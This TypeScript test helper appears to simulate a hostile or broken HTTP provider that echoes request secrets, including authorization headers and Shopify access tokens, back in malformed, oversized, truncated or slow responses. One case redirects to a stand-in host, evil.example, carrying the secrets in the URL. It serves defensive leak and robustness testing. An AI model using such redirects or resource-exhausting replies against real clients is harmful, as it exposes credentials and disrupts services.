import type { Socket } from 'node:net';
import type { Spoil, TapRequest } from './http-tap';

/** Larger than any answer that the hub reads. */
const OVERSIZE_BYTES = 2 * 1024 * 1024;
/** More headers than an HTTP client takes. */
const LARGE_HEADER_BYTES = 40 * 1024;
const DRIP_EVERY_MS = 500;

/** Everything secret that a request brought, as one text that fits into a header. */
export function echoOf({ url, headers, body }: TapRequest): string {
  const told = ['authorization', 'x-shopify-access-token'].flatMap((name) => headers[name] ?? []);
  return [...told, body, url].join(' ').replace(/[^\x20-\x7e]+/g, ' ');
}

interface Words {
  readonly status?: number;
  /** The phrase behind the status. */
  readonly phrase?: string;
  readonly type?: string;
  readonly headers?: readonly string[];
  readonly body?: string;
}

function answer({ status = 200, phrase = 'Echo', type = 'application/json', headers = [], body = '' }: Words): string {
  const head = [`content-type: ${type}`, `content-length: ${Buffer.byteLength(body)}`, 'connection: close', ...headers];
  return [`HTTP/1.1 ${status} ${phrase}`, ...head, '', body].join('\r\n');
}

function json(status: number, body: object, headers?: readonly string[]): string {
  return answer({ status, body: JSON.stringify(body), ...(headers && { headers }) });
}

/** How a provider may repeat what it was sent: what is written to the socket. All of these end at once. */
const WORDS: Readonly<Record<string, (echo: string) => string>> = {
  'json in a description': (echo) =>
    json(400, { error: 'invalid_request', error_description: echo, message: echo, code: echo, errors: [echo] }),
  'json as the code': (echo) => json(400, { error: echo, code: echo, errors: { [echo]: echo } }),
  'html page': (echo) =>
    answer({ status: 502, type: 'text/html', body: `<html><body><pre>${echo}</pre></body></html>` }),
  '200 with an error': (echo) =>
    json(200, { ok: false, error: echo, error_description: echo, errors: [{ message: echo }] }),
  'malformed json': (echo) => answer({ body: `${echo} {"access_token": "${echo}` }),
  'half of a json': (echo) => answer({ body: `{"error": ${JSON.stringify(echo)}, ` }),
  'wrong types': (echo) =>
    json(200, { access_token: [echo], token_type: echo, expires_in: echo, scope: { echo }, refresh_token: [echo] }),
  'strange values': (echo) =>
    json(200, { access_token: echo, token_type: echo, expires_in: echo, scope: echo, refresh_token: echo }),
  redirect: (echo) =>
    answer({ status: 302, headers: [`location: https://evil.example/?${encodeURIComponent(echo)}`], body: echo }),
  '401 with a challenge': (echo) =>
    json(401, { error: 'invalid_client', error_description: echo }, [
      `www-authenticate: Bearer error="invalid_token", error_description="${echo}"`,
      `x-request-id: ${echo}`,
    ]),
  '403': (echo) => json(403, { error: { status: echo, message: echo, errors: [{ reason: echo, domain: echo }] } }),
  '429 with a wish': (echo) => json(429, { error: 'rate_limited', message: echo }, [`retry-after: ${echo}`]),
  '503 in the phrase': (echo) => answer({ status: 503, phrase: echo, type: echo.slice(0, 200), body: echo }),
  oversize: (echo) => answer({ body: JSON.stringify({ flood: echo.padEnd(OVERSIZE_BYTES, echo) }) }),
  'no http': (echo) => `${echo}\r\nHTTP/9.9 ${echo}\r\n\r\n`,
  'too large a header': (echo) => answer({ headers: [`x-echo: ${echo.padEnd(LARGE_HEADER_BYTES, echo)}`] }),
  'cut in the middle': (echo) => answer({ status: 500, body: echo.repeat(10) }).slice(0, -echo.length),
};

/** Comes in pieces, for longer than the hub waits. */
function drip(echo: string): Spoil {
  return (socket: Socket) => {
    socket.write(`HTTP/1.1 200 OK\r\ncontent-type: application/json\r\nconnection: close\r\n\r\n{"error":"${echo}`);
    const timer = setInterval(() => socket.write(' '), DRIP_EVERY_MS);
    socket.on('close', () => clearInterval(timer));
  };
}

/** Every manner of repeating that takes no time. */
export const ECHOES = Object.keys(WORDS);
/** The one that takes as long as the hub has patience. */
export const DRIP = 'drip';

/** Answers a request by repeating all that it brought. */
export function echoing(manner: string, request: TapRequest): Spoil {
  const echo = echoOf(request);
  if (manner === DRIP) return drip(echo);
  const words = WORDS[manner];
  if (!words) throw new Error(`nothing repeats in the manner of ${manner}`);
  return (socket) => void socket.end(words(echo));
}
